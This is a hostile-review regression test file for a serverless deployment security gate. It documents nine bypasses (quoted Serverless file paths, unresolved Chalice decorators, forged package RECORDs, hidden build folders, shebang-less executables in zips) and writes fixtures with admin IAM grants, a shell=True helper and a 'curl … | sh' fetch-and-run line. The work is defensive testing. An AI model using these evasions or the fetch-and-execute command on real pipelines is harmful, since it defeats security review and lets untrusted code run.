"""A sixteenth hostile review of `gate check`: ways around the fixes of 4f6fb32/6c04237
(a Chalice registering method used otherwise than as a module-level decorator refused,
one JSON reader of `.chalice/config.json`), and around what staging leaves out or
proves third-party, what the Serverless rules read through `${file()}`, and which
dependency manifests are audited.

Each attack was a confirmed problem: the test says what the gate must do, and a baseline
beside it shows the same bundle without the trick blocks. Each attack exited 0 with the
hostile harness's policy (checkov off); one case of each was also run by hand with the
default policy (checkov on): exit 0 all the same, with no warning but `advisories-stale`,
7's `iac-not-read`, and 3's and 9's `vendored-code-skipped` (which names the made-up
package as if it were installed). What lets each through:

1. A Serverless `${file()}` whose path is a quoted string. The Framework's variable
   parser (lib/configuration/variables/parse.js) takes a param in single quotes (the
   quotes dropped) or double quotes (read as a JSON string), so `${file('./iam.yml')}`
   reads iam.yml as `${file(./iam.yml)}` does. The gate's patterns
   (gate.bundle.discovery.references `_FILE_VARIABLE`, gate.rules.variables `_FILE`) keep
   the quotes as part of the path: the rules' resolver finds no file `'./iam.yml'`,
   takes the variable for a deploy-time value, and the admin statements in iam.yml are
   never judged. The ignored-folder check is bypassed the same way
   (`'.mypy_cache/iam.yml'`: its first part is `'.mypy_cache`, no rule's name).
2. A Chalice function registered through a name the gate's syntax tracking does not
   resolve: the decorator fetched with `getattr(app, 'lambda_function')`, the blueprint
   imported relatively in chalicelib (`from .bp import bp`: `_imports` skips
   `level != 0`), or reached as a module attribute (`@m.bp.lambda_function(...)`).
   gate.bundle.discovery.chalice `_owners`/`_registrations` find no registration, and
   `_refuse_called_decorators` refuses only an `OWNER.method` attribute whose OWNER it
   already knows. The stage's `policy-admin.json` (autogen_policy false) is judged per
   function found (gate.rules.iam.roles_chalice), and none is: review 15's third
   attack, through the forms its fix does not see.
3. A package record in a site folder *above* a function's code. gate.bundle.staging.thirdparty
   asks for a declaring requirements file only when the RECORD's site folder lies in a
   function's code (`within(site, code)`); a `src-1.0.dist-info` at the bundle root,
   whose RECORD lists `src/helper.py` with its true hash, is a site folder holding the
   code folder, so no declaration is asked for, and `owns('src', 'src/helper.py')`
   holds (the module's top folder is named like the distribution). The handler's own
   sibling module is counted third-party (`src 1.0`). `sam deploy` zips `src/` alone:
   the record is not even deployed, and Lambda imports helper.py from /var/task as the
   function's own code.
4. Python in a build-output folder (`.serverless`, `.aws-sam`, `cdk.out`, `.terraform`)
   inside a Python function's code, on the import path (PYTHONPATH, or `sys.path`
   extended by the handler). `sam deploy` zips CodeUri whole (`sam build` keeps all but
   `.aws-sam`: aws-lambda-builders `PythonPipWorkflow.EXCLUDED_FILES`), and the handler
   imports the module. gate.bundle.staging.copy ignores the folder, and what is brought back
   inside a function's code is only `DATA_ONLY_RULES` folders' Python and
   virtualenv/dependency trees: the module is counted `ignored`, never scanned.
5. A program without a `#!` line but with its execute bit, inside a deployed zip.
   gate.bundle.archives `_write` creates every entry 0644, so gate.bundle.staging.programs, which
   reads the copy's mode for an unpacked zip, finds no program; the function's
   unreadable `AWS_LAMBDA_EXEC_WRAPPER` (`!Ref Wrapper`, no default) is judged only
   where the function holds programs, and passes. Lambda unpacks the zip with its modes,
   and the runtime's bootstrap runs the file with sh (review 9's case 4, in a zip).
6. A dependency manifest that the build reads under another name: samconfig.toml's
   `manifest` (`sam build --manifest`) or serverless-python-requirements'
   `custom.pythonRequirements.fileName`. gate.bundle.manifests reads `requirements*.txt` and
   the lock/project files by name only: the pinned, vulnerable `requests==2.5.0` that
   the build installs is never audited (counted not analysed, or scanned by checkov).
7. A Serverless `functions` section written as `${file(./functions.yml)}` (or a list of
   such files), a documented idiom. gate.bundle.discovery.serverless `_functions` warns
   `iac-not-read` and finds no function, though the rules' resolver
   (gate.rules.variables) reads `${file()}` of a bundle file everywhere else: the
   per-function statements (serverless-iam-roles-per-function) are never judged.
8. A Chalice file read with YAML where Chalice reads JSON. Chalice loads the policy file
   with `json.loads` (deploy `PolicyGenerator._read_document_from_file`), which keeps
   the last of two `Statement` keys; gate.rules.iam.roles_chalice `_policy` reads it
   with the YAML loader, which refuses the duplicate key, and an unreadable policy is a
   note on a grant (`unknown`), never a finding. And gate.rules.iac.chalice reads
   `.chalice/config.json`'s environment with the YAML loader, which refuses a raw DEL
   (U+007F, legal in a JSON string); the environment is then "unread", judged only
   where the function holds programs, and a plaintext secret in it goes unreported.
9. A module named `<distribution>_<anything>` (`six_helper.py`) in a declared package's
   RECORD. gate.bundle.staging.importnames `owns` matches every module by the part of its name
   before the first `_` (`private.split("_")[0]`), meant for `_cffi_backend` and
   `tiktoken_ext`; so a made-up RECORD of the declared `six` vouches for the handler's
   `six_helper` as its own, with no `foreign-module` warning, where `helper.py` is
   scanned (review 12's baseline).

Fixed, each by its class: one parser of a `file()` source's first parameter, quoted as
the Framework quotes it, for discovery and the rules' resolver (`FILE_SOURCE`,
`unquoted`); any use of a registering method's name in a Chalice project but as the
decorator of a module-level function on an app or blueprint traced to where it is made
is refused, an attribute fetched by name from one too, and relative imports and
module attributes are followed; a record vouches for nothing in a function's code or
layer below its site folder; any Python source an ignored folder holds inside a Python
function's code or layers is scanned, whatever the rule; an unpacked zip entry keeps
its execute bits; a manifest a build setting names is a reference (refused when not in
the bundle) and audited; a `functions` section included from a bundle file is read, any
other variable there refused; Chalice's policy files and config are read as JSON, and a
policy file it cannot read is refused; and the first-part name match is for private
modules only.

Also tried, and the gate held: a `CodeUri` inside an ignored folder (`node_modules/`,
`.serverless/`, `.aws-sam/`, `cdk.out/`, `.venv/`, `.mypy_cache/`, `.git/`,
`.terraform/`: refused, the code is not in the bundle); `CodeUri`, `Handler` and
`Runtime` from `Globals.Function` (read); PYTHONPATH into `.git`, `__MACOSX`,
`node_modules` or `.venv` inside the code (scanned); a nested `lib.ZIP` on PYTHONPATH
inside a deployed zip (refused); a Terraform `main_override.tf` replacing `filename` or
adding an exec wrapper to `environment` (both read: blocks); a requirements line pip
reads and `packaging` does not (exit 2); `${file(./iam.json)}` with a duplicate key or
a raw DEL (VariableUnreadable: exit 2); a Chalice app.py in python3.12-only syntax (a
scan error: exit 2); a Chalice app made by a conditional expression or a tuple
assignment (refused, the config says it is a project).
"""

from __future__ import annotations

import io
import posixpath
import zipfile
from functools import partial
from pathlib import Path

from tests.hostile.conftest import (
    Layout,
    Sandbox,
    each_blocked_or_refused,
    each_blocks,
)
from tests.hostile.test_review import PLAINTEXT
from tests.hostile.test_review11 import ADMIN_JSON
from tests.hostile.test_review12 import vouched
from tests.hostile.test_staging import TEMPLATE, record_hash

GOOD = "def handler(event, context):\n    return {'ok': True}\n"
# Runs a shell command the handler passes in: bandit B602 (high).
HELPER = "import subprocess\n\n\ndef run(cmd):\n    return subprocess.call(cmd, shell=True)\n"
IMPORTS_HELPER = (
    "import helper\n\n\ndef handler(event, context):\n    return helper.run(event['cmd'])\n"
)

# --- 1. a Serverless ${file()} whose path is quoted ---------------------------------------

SLS_IAM_FILE = """\
service: orders
frameworkVersion: '3'
provider:
  name: aws
  runtime: python3.12
  iam: {iam}
functions:
  orders:
    handler: app.handler
"""
IAM_FILE = "role:\n  statements:\n    - Effect: Allow\n      Action: '*'\n      Resource: '*'\n"


def serverless_iam(sandbox: Sandbox, variable: str, path: str) -> None:
    """The provider's role statements from `path`, named by `variable`."""
    sandbox.write("serverless.yml", SLS_IAM_FILE.format(iam=variable))
    sandbox.write(path, IAM_FILE)
    sandbox.write("app.py", GOOD)


def file_variable_for_the_provider_role(sandbox: Sandbox) -> None:
    """The baseline: `iam: ${file(./iam.yml)}` is resolved: GATE-IAC-001."""
    serverless_iam(sandbox, "${file(./iam.yml)}", "iam.yml")


def test_a_quoted_file_variable_is_read(tmp_path: Path) -> None:
    """`${file('./iam.yml')}` or `${file("./iam.yml")}`: the Framework reads iam.yml as in
    the baseline; the gate looks for a file named with the quotes, finds none, and passes
    (exit 0). Quoted, a path into `.mypy_cache` is not refused either."""

    def layout(variable: str, path: str) -> Layout:
        def written(sandbox: Sandbox) -> None:
            serverless_iam(sandbox, variable, path)

        return written

    each_blocked_or_refused(
        tmp_path,
        {
            "single-quoted": layout("${file('./iam.yml')}", "iam.yml"),
            "double-quoted": layout('${file("./iam.yml")}', "iam.yml"),
            "quoted-into-an-ignored-folder": layout(
                "${file('.mypy_cache/iam.yml')}", ".mypy_cache/iam.yml"
            ),
        },
    )


# --- 2. a Chalice function registered through a name the gate does not resolve -----------

# Every function of stage `dev` runs with `policy-admin.json`, which may do anything.
STAGE_CONFIG = (
    '{"version": "2.0", "app_name": "orders", "stages": {"dev": {'
    '"api_gateway_stage": "api", "autogen_policy": false, '
    '"iam_policy_file": "policy-admin.json"}}}\n'
)
HANDLE = "def handle(event, context=None):\n    return {'ok': True}\n"
APP = "from chalice import Chalice\n\napp = Chalice(app_name='orders')\n\n\n"


def app_py(register: str) -> str:
    """app.py registering `handle` with the decorator line `register`."""
    return APP + register + HANDLE


BLUEPRINT_APP = (
    "from chalice import Chalice\n\nimport chalicelib.jobs  # noqa: F401\n"
    "from chalicelib.bp import bp\n\napp = Chalice(app_name='orders')\n"
    "app.register_blueprint(bp)\n"
)
BP = "from chalice import Blueprint\n\nbp = Blueprint(__name__)\n"
JOBS = "{imports}\n\n\n@{owner}.lambda_function(name='worker')\n"
DECORATED = "@app.lambda_function(name='worker')\n"
# What each project writes besides its config and policy: path -> text.
REGISTRATIONS: dict[str, dict[str, str]] = {
    # The decorator fetched by name: Chalice registers `worker` as in the baseline.
    "getattr": {"app.py": app_py("@getattr(app, 'lambda_function')(name='worker')\n")},
    # The blueprint imported relatively in chalicelib.
    "relative-import": {
        "app.py": BLUEPRINT_APP,
        "chalicelib/__init__.py": "",
        "chalicelib/bp.py": BP,
        "chalicelib/jobs.py": JOBS.format(imports="from .bp import bp", owner="bp") + HANDLE,
    },
    # The blueprint reached as an attribute of its module.
    "module-attribute": {
        "app.py": BLUEPRINT_APP,
        "chalicelib/__init__.py": "",
        "chalicelib/bp.py": BP,
        "chalicelib/jobs.py": JOBS.format(imports="from chalicelib import bp as m", owner="m.bp")
        + HANDLE,
    },
}


def chalice_project(sandbox: Sandbox, files: dict[str, str]) -> None:
    for path, text in files.items():
        sandbox.write(path, text)
    sandbox.write(".chalice/config.json", STAGE_CONFIG)
    sandbox.write(".chalice/policy-admin.json", ADMIN_JSON)


def chalice_stage_policy(sandbox: Sandbox) -> None:
    """The baseline: `@app.lambda_function(name='worker')`: the stage's policy is judged
    for it: GATE-IAC-001."""
    chalice_project(sandbox, {"app.py": app_py(DECORATED)})


def chalice_blueprint_stage_policy(sandbox: Sandbox) -> None:
    """The baseline: the blueprint imported absolutely (`from chalicelib.bp import bp`)
    in chalicelib/jobs.py: `worker` is found, the stage's policy judged: GATE-IAC-001."""
    files = dict(REGISTRATIONS["relative-import"])
    files["chalicelib/jobs.py"] = (
        JOBS.format(imports="from chalicelib.bp import bp", owner="bp") + HANDLE
    )
    chalice_project(sandbox, files)


def test_a_chalice_registration_the_gate_does_not_resolve_is_refused(tmp_path: Path) -> None:
    """`@getattr(app, 'lambda_function')(name='worker')`, `from .bp import bp` in
    chalicelib/jobs.py, or `@m.bp.lambda_function(...)`: Chalice deploys `worker` with
    the stage's `policy-admin.json` as in the baselines; the gate finds no function and
    passes (exit 0)."""

    def layout(trick: str) -> Layout:
        def written(sandbox: Sandbox) -> None:
            chalice_project(sandbox, REGISTRATIONS[trick])

        return written

    each_blocked_or_refused(tmp_path, {trick: layout(trick) for trick in sorted(REGISTRATIONS)})


# --- 3. a package record in a site folder above the function's code -----------------------


def sibling_module(sandbox: Sandbox) -> None:
    """A SAM function in src/ whose handler imports its own helper.py (B602)."""
    sandbox.write("template.yaml", TEMPLATE.format(code="src/", handler="app.handler"))
    sandbox.write("src/app.py", IMPORTS_HELPER)
    sandbox.write("src/helper.py", HELPER)


def made_up_record(sandbox: Sandbox, site: str, listed: str) -> None:
    """A `src 1.0` dist-info in `site` whose RECORD lists the bundle file `listed` (given
    relative to `site`) with its true hash."""
    info = posixpath.join(site, "src-1.0.dist-info")
    data = (sandbox.bundle / posixpath.join(site, listed)).read_bytes()
    sandbox.write(f"{info}/METADATA", "Metadata-Version: 2.1\nName: src\nVersion: 1.0\n\n")
    sandbox.write(
        f"{info}/RECORD",
        f"{listed},{record_hash(data)},{len(data)}\n"
        "src-1.0.dist-info/METADATA,,\nsrc-1.0.dist-info/RECORD,,\n",
    )


def handlers_sibling(sandbox: Sandbox) -> None:
    """The baseline: src/helper.py, imported by the handler, is scanned: B602 (high)."""
    sibling_module(sandbox)


def made_up_record_in_the_code_folder(sandbox: Sandbox) -> None:
    """The baseline: the same record in src/ itself (a site folder in the function's
    code) declares `helper`'s owner nowhere: undeclared, scanned, B602 blocks."""
    sibling_module(sandbox)
    sandbox.write("src/requirements.txt", "")
    made_up_record(sandbox, "src", "helper.py")


def a_record_above_the_code_does_not_vouch_for_it(sandbox: Sandbox) -> None:
    """`src-1.0.dist-info` at the bundle root lists `src/helper.py`: the site folder (the
    root) is not in the function's code, so no declaration is asked for, and `src/` is
    named like the distribution. helper.py is counted third-party (`src 1.0`) and the run
    passes (exit 0); `sam deploy` ships src/ alone, and Lambda imports helper.py as the
    function's own code."""
    sibling_module(sandbox)
    made_up_record(sandbox, ".", "src/helper.py")


# --- 4. Python in a build-output folder inside a function's code --------------------------

PATH_TEMPLATE = TEMPLATE + "      Environment:\n        Variables:\n          PYTHONPATH: {path}\n"
EXTENDS_PATH = (
    "import os\nimport sys\n\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), "
    "{folder!r}))\nimport helper  # noqa: E402\n\n\n"
    "def handler(event, context):\n    return helper.run(event['cmd'])\n"
)
BUILD_OUTPUT = [".serverless/lib", ".aws-sam/lib", "cdk.out/lib", ".terraform/lib"]


def on_pythonpath(sandbox: Sandbox, folder: str) -> None:
    """PYTHONPATH=/var/task/FOLDER; the handler imports helper.py from there."""
    template = PATH_TEMPLATE.format(code="src/", handler="app.handler", path=f"/var/task/{folder}")
    sandbox.write("template.yaml", template)
    sandbox.write("src/app.py", IMPORTS_HELPER)
    sandbox.write(f"src/{folder}/helper.py", HELPER)


def on_sys_path(sandbox: Sandbox, folder: str) -> None:
    """The handler puts src/FOLDER on sys.path and imports helper.py from there."""
    sandbox.write("template.yaml", TEMPLATE.format(code="src/", handler="app.handler"))
    sandbox.write("src/app.py", EXTENDS_PATH.format(folder=folder))
    sandbox.write(f"src/{folder}/helper.py", HELPER)


def module_on_the_pythonpath(sandbox: Sandbox) -> None:
    """The baseline: src/lib/helper.py on PYTHONPATH: B602 (high)."""
    on_pythonpath(sandbox, "lib")


def module_on_an_extended_sys_path(sandbox: Sandbox) -> None:
    """The baseline: src/lib2/helper.py, put on sys.path by the handler: B602 (high)."""
    on_sys_path(sandbox, "lib2")


def test_a_module_in_a_build_output_folder_of_the_code_is_scanned(tmp_path: Path) -> None:
    """PYTHONPATH=/var/task/.serverless/lib (or `.aws-sam`, `cdk.out`, `.terraform`):
    `sam deploy` ships the folder with the code and `import helper` loads it; the copy
    leaves it out (build-output, 1 file ignored) and never brings it back: exit 0."""
    layouts: dict[str, Layout] = {
        f"{i}-{folder.lstrip('.').replace('/', '-')}": partial(on_pythonpath, folder=folder)
        for i, folder in enumerate(BUILD_OUTPUT)
    }
    each_blocked_or_refused(tmp_path, layouts)


def a_module_in_cdk_out_on_sys_path_is_scanned(sandbox: Sandbox) -> None:
    """The handler puts src/cdk.out on sys.path (no environment at all): `sam build` and
    `sam deploy` both ship cdk.out, and the import loads helper.py; exit 0."""
    on_sys_path(sandbox, "cdk.out")


# --- 5. a program's execute bit inside a deployed zip --------------------------------------

UNREAD_WRAPPER = (
    "AWSTemplateFormatVersion: '2010-09-09'\nTransform: AWS::Serverless-2016-10-31\n"
    "Parameters:\n  Wrapper:\n    Type: String\nResources:\n  Orders:\n"
    "    Type: AWS::Serverless::Function\n    Properties:\n      CodeUri: fn.zip\n"
    "      Handler: app.handler\n      Runtime: python3.12\n      Environment:\n"
    "        Variables:\n          AWS_LAMBDA_EXEC_WRAPPER: !Ref Wrapper\n"
)
SHELL_BODY = 'curl -s https://example.invalid/x | sh\nexec "$@"\n'


def zip_with_program(sandbox: Sandbox, script: str) -> None:
    """fn.zip: a clean handler and `boot` (mode 755) holding `script`; the wrapper
    setting is a parameter without a default (`--parameter-overrides` sets it)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("app.py", GOOD)
        entry = zipfile.ZipInfo("boot")
        entry.external_attr = 0o100755 << 16
        archive.writestr(entry, script)
    sandbox.write("template.yaml", UNREAD_WRAPPER)
    sandbox.write("fn.zip", buffer.getvalue())


def shell_script_in_a_zip(sandbox: Sandbox) -> None:
    """The baseline: `boot` starts `#!/bin/sh`: a program the unread wrapper setting
    could start: GATE-IAC-018."""
    zip_with_program(sandbox, "#!/bin/sh\n" + SHELL_BODY)


def an_executable_without_a_shebang_in_a_zip_counts(sandbox: Sandbox) -> None:
    """The same `boot` without its `#!` line, mode 755 in the zip: Lambda unpacks it
    executable and sh runs it as the wrapper; the gate unpacks it 0644, finds no program,
    and passes (exit 0)."""
    zip_with_program(sandbox, SHELL_BODY)


# --- 6. a dependency manifest the build reads under another name -------------------------

VULNERABLE = "requests==2.5.0\n"
# One of the known vulnerabilities (high) of that pin the audit reports.
VULNERABLE_ADVISORY = "PYSEC-2018-28"
SLS_REQUIREMENTS = """\
service: orders
frameworkVersion: '3'
provider:
  name: aws
  runtime: python3.12
plugins:
  - serverless-python-requirements
custom:
  pythonRequirements:
    fileName: {name}
functions:
  orders:
    handler: app.handler
"""
SAMCONFIG_MANIFEST = 'version = 0.1\n\n[default.build.parameters]\nmanifest = "{path}"\n'


def sam_manifest(sandbox: Sandbox, name: str) -> None:
    """`sam build` installs src/NAME (samconfig's `manifest` when it is not the default)."""
    sandbox.write("template.yaml", TEMPLATE.format(code="src/", handler="app.handler"))
    sandbox.write("src/app.py", GOOD)
    sandbox.write(f"src/{name}", VULNERABLE)
    if name != "requirements.txt":
        sandbox.write("samconfig.toml", SAMCONFIG_MANIFEST.format(path=f"src/{name}"))


def serverless_manifest(sandbox: Sandbox, name: str) -> None:
    """serverless-python-requirements installs NAME (`pythonRequirements.fileName`)."""
    sandbox.write("serverless.yml", SLS_REQUIREMENTS.format(name=name))
    sandbox.write("app.py", GOOD)
    sandbox.write(name, VULNERABLE)


MANIFEST_WRITERS = {"samconfig-manifest": sam_manifest, "python-requirements": serverless_manifest}


def vulnerable_pin_in_requirements_txt(tool: str) -> Layout:
    """The baseline: `requests==2.5.0` in requirements.txt: known vulnerabilities (high)."""
    return partial(MANIFEST_WRITERS[tool], name="requirements.txt")


def test_the_manifest_the_build_names_is_audited(tmp_path: Path) -> None:
    """The same pin in deps.txt, which samconfig.toml (`manifest`, `sam build
    --manifest`) or serverless.yml (`custom.pythonRequirements.fileName`) makes the build
    install: never audited, and the run passes (exit 0)."""

    each_blocked_or_refused(
        tmp_path,
        {tool: partial(write, name="deps.txt") for tool, write in sorted(MANIFEST_WRITERS.items())},
    )


# --- 7. a Serverless functions section from a file ---------------------------------------

SLS_FUNCTIONS = """\
service: orders
frameworkVersion: '3'
provider:
  name: aws
  runtime: python3.12
plugins:
  - serverless-iam-roles-per-function
functions: {functions}
"""
FUNCTIONS = (
    "orders:\n  handler: app.handler\n  iamRoleStatements:\n    - Effect: Allow\n"
    "      Action: '*'\n      Resource: '*'\n"
)


def per_function_statements(sandbox: Sandbox) -> None:
    """The baseline: the function and its admin statements written in serverless.yml:
    GATE-IAC-001."""
    inline = "\n" + "".join(f"  {line}\n" for line in FUNCTIONS.splitlines())
    sandbox.write("serverless.yml", SLS_FUNCTIONS.format(functions=inline))
    sandbox.write("app.py", GOOD)


def test_functions_from_a_file_are_read(tmp_path: Path) -> None:
    """`functions: ${file(./functions.yml)}` (or a list of such files), the same function
    in functions.yml: the Framework deploys it with its admin role as in the baseline;
    the gate warns `iac-not-read`, finds no function, and passes (exit 0)."""

    def layout(functions: str) -> Layout:
        def written(sandbox: Sandbox) -> None:
            sandbox.write("serverless.yml", SLS_FUNCTIONS.format(functions=functions))
            sandbox.write("functions.yml", FUNCTIONS)
            sandbox.write("app.py", GOOD)

        return written

    each_blocked_or_refused(
        tmp_path,
        {
            "mapping": layout("${file(./functions.yml)}"),
            "list": layout("\n  - ${file(./functions.yml)}"),
        },
    )


# --- 8. Chalice files read with YAML where Chalice reads JSON -----------------------------

TWO_STATEMENTS = (
    '{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "s3:GetObject", '
    '"Resource": "arn:aws:s3:::b/*"}], "Statement": [{"Effect": "Allow", "Action": "*", '
    '"Resource": "*"}]}\n'
)
SECRET_CONFIG = (
    '{{"version": "2.0", "app_name": "orders", "environment_variables": '
    '{{"DB_PASSWORD": "{secret}"}}, "stages": {{"dev": {{"api_gateway_stage": "api"{tags}}}}}}}\n'
)


def a_chalice_policy_file_is_read_as_json(sandbox: Sandbox) -> None:
    """policy-admin.json with `Statement` written twice, the admin one last: Chalice's
    `json.loads` keeps the last and deploys it (the baseline's policy); the YAML loader
    refuses the file, the grant is only `unknown`, and the run passes (exit 0)."""
    chalice_project(sandbox, {"app.py": app_py(DECORATED)})
    sandbox.write(".chalice/policy-admin.json", TWO_STATEMENTS)


def chalice_secret(sandbox: Sandbox, tags: str) -> None:
    """A Chalice function whose config sets a plaintext secret, with `tags` in the stage."""
    sandbox.write("app.py", app_py(DECORATED))
    sandbox.write(".chalice/config.json", SECRET_CONFIG.format(secret=PLAINTEXT, tags=tags))


def plaintext_secret_in_a_chalice_config(sandbox: Sandbox) -> None:
    """The baseline: `environment_variables` holds a literal DB_PASSWORD: GATE-IAC-012."""
    chalice_secret(sandbox, ', "tags": {"note": "ab"}')


def a_chalice_environment_is_read_as_json(sandbox: Sandbox) -> None:
    """The same config with a raw DEL (U+007F) in a stage tag: legal in a JSON string, so
    Chalice (and the gate's discovery) read it and deploy the secret; the YAML loader
    refuses it, the environment is unread, and the run passes (exit 0)."""
    chalice_secret(sandbox, ', "tags": {"note": "a\x7fb"}')


# --- 9. a module named after its distribution's first part --------------------------------


def module_a_record_lists_under_another_name(sandbox: Sandbox) -> None:
    """The baseline (7d0b12f): `six`'s RECORD also lists src/helper.py, which the handler
    imports: not named like `six`, warned `foreign-module` and scanned: B602 (high)."""
    vouched(sandbox, "helper", ".")


def a_module_named_after_the_distributions_first_part_is_not_vouched(
    sandbox: Sandbox,
) -> None:
    """The same module as `six_helper.py`: `owns` matches every module by the part of its
    name before `_`, not only a private one, so the made-up RECORD of the declared `six`
    vouches for it (`six 1.0`, 4 files third-party) and the run passes (exit 0)."""
    vouched(sandbox, "six_helper", ".")


# --- the baselines, in one run ------------------------------------------------------------

# name: (the bundle without the trick, the rule its blocking finding names)
BASELINES: dict[str, tuple[Layout, str]] = {
    "1-file-variable-provider-role": (file_variable_for_the_provider_role, "GATE-IAC-001"),
    "2-chalice-stage-policy": (chalice_stage_policy, "GATE-IAC-001"),
    "2-chalice-blueprint-stage-policy": (chalice_blueprint_stage_policy, "GATE-IAC-001"),
    "3-handlers-sibling": (handlers_sibling, "B602"),
    "3-record-in-the-code-folder": (made_up_record_in_the_code_folder, "B602"),
    "4-module-on-the-pythonpath": (module_on_the_pythonpath, "B602"),
    "4-module-on-an-extended-sys-path": (module_on_an_extended_sys_path, "B602"),
    "5-shell-script-in-a-zip": (shell_script_in_a_zip, "GATE-IAC-018"),
    **{
        f"6-{tool}-requirements-txt": (
            vulnerable_pin_in_requirements_txt(tool),
            VULNERABLE_ADVISORY,
        )
        for tool in sorted(MANIFEST_WRITERS)
    },
    "7-per-function-statements": (per_function_statements, "GATE-IAC-001"),
    "8-chalice-plaintext-secret": (plaintext_secret_in_a_chalice_config, "GATE-IAC-012"),
    "9-record-lists-another-name": (module_a_record_lists_under_another_name, "B602"),
}


def test_the_baselines_block(tmp_path: Path) -> None:
    """The baselines, in one run of every bundle: each blocks, its finding naming its
    rule."""
    each_blocks(tmp_path, BASELINES)


def test_each_trick_is_blocked_or_refused(tmp_path: Path) -> None:
    """The single tricks above, in one run: none of them passes."""
    each_blocked_or_refused(
        tmp_path,
        {
            "record-above-the-code-does-not-vouch-for-it": (
                a_record_above_the_code_does_not_vouch_for_it
            ),
            "module-in-cdk-out-on-sys-path": a_module_in_cdk_out_on_sys_path_is_scanned,
            "executable-without-a-shebang-in-a-zip-counts": (
                an_executable_without_a_shebang_in_a_zip_counts
            ),
            "chalice-policy-file-is-read-as-json": a_chalice_policy_file_is_read_as_json,
            "chalice-environment-is-read-as-json": a_chalice_environment_is_read_as_json,
            "module-named-after-the-distributions-first-part-is-not-vouched": (
                a_module_named_after_the_distributions_first_part_is_not_vouched
            ),
        },
    )
